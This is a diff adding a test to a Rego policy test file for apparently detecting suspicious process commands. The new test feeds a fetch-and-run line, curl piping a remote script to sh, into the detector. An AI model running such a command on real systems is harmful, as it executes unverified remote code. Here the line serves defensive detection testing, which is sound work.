@@ -68,3 +68,7 @@ test_leaves_what_is_ordinary if {
 	found(testing.at_start(command)) == set()
 	found(testing.of_image(command, "cimg/base")) == set()
 }
+
+test_points_at_the_arguments if {
+	testing.paths(found(testing.script("curl -fsSL http://203.0.113.5/x | sh"))) == {"/event/process/args"}
+}
